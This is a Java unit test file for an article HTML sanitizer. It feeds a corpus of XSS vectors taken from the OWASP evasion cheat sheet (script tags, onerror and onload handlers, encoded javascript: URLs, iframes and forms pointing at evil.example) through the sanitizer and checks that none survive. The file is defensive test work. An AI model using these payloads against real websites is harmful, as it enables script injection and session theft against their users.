package org.tongxin.publicity;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.tongxin.publicity.internal.HtmlPolicy;

/** An XSS corpus against the article policy, and what it keeps. */
class HtmlPolicyTests {

    /** Vectors from the OWASP XSS filter evasion cheat sheet and a few of our own. */
    static final List<String> CORPUS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
            "<IMG SRC=\"javascript:alert('XSS');\">",
            "<IMG SRC=javascript:alert('XSS')>",
            "<IMG SRC=JaVaScRiPt:alert('XSS')>",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
            "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
            "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
            "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
            "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
            "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
            "<IMG SRC=\"/publicity/pictures/1/image\" onerror=\"alert(1)\">",
            "<img src=x onerror=alert(1)//>",
            "<svg/onload=alert('XSS')>",
            "<iframe src=\"https://evil.example/\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<a href=\"javascript:alert(1)\">点我</a>",
            "<a href=\"  JAVASCRIPT:alert(1)\">点我</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点我</a>",
            "<a href=\"https://example.com\" onclick=\"alert(1)\">链接</a>",
            "<p style=\"background:url(javascript:alert(1))\">样式</p>",
            "<div style=\"width: expression(alert('XSS'));\">",
            "<object data=\"https://evil.example/x.swf\"></object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "<form action=\"https://evil.example\"><input name=p></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"https://evil.example/\">",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<video src=\"https://evil.example/v.mp4\" onplay=\"alert(1)\"></video>",
            "<video><source src=\"https://evil.example/v.mp4\"></video>",
            "<img src=\"https://tracker.example/pixel.gif\">",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<table background=\"javascript:alert(1)\"><tr><td>表</td></tr></table>",
            "<p>正常</p><!--<script>alert(1)</script>-->",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<a href=\"https://example.com\" target=\"_top\">x</a>",
            "<h2 id=\"x\" class=\"y\" onmouseover=\"alert(1)\">标题</h2>");

    @Test
    void nothingOfTheCorpusCanRunOrLoadFromElsewhere() {
        for (String vector : CORPUS) {
            String out = HtmlPolicy.sanitize(vector).toLowerCase(Locale.ROOT);
            assertThat(out).as(vector).doesNotContain("<script", "<iframe", "<svg", "<object", "<embed", "<form",
                    "<meta", "<base", "<link", "<style", "<math", "<source", "javascript:", "data:", "style=",
                    "expression(", "srcdoc", "https://evil", "https://tracker", "_top");
            assertThat(out).as(vector).doesNotContainPattern("\\son[a-z]+\\s*=");
        }
    }

    @Test
    void articlesKeepTheirStructureLinksAndTheirOwnPictures() {
        String out = HtmlPolicy.sanitize("""
                <h2>职工之家开放</h2><p>欢迎<strong>全体职工</strong>到<a href="https://example.com/map" target="_blank">这里</a>。</p>
                <ul><li>一</li><li>二</li></ul>
                <figure><img src="/publicity/pictures/12/image" alt="合影" width="1080" height="720"><figcaption>合影</figcaption></figure>
                <video src="/publicity/items/3/video" poster="/publicity/items/3/poster" controls playsinline></video>""");
        assertThat(out).contains("<h2>职工之家开放</h2>", "<strong>全体职工</strong>", "href=\"https://example.com/map\"",
                "target=\"_blank\"", "<li>一</li>",
                "src=\"/publicity/pictures/12/image\"", "alt=\"合影\"", "<figcaption>合影</figcaption>",
                "src=\"/publicity/items/3/video\"", "poster=\"/publicity/items/3/poster\"", "controls");
        // The policy adds every one of these to each link, in no fixed order.
        assertThat(out).containsPattern("rel=\"(?=[^\"]*noopener)(?=[^\"]*noreferrer)(?=[^\"]*nofollow)[^\"]*\"");
        assertThat(HtmlPolicy.text("<h2>标题</h2><p>第一段&amp;<br>第二段</p>")).isEqualTo("标题 第一段& 第二段");
    }
}
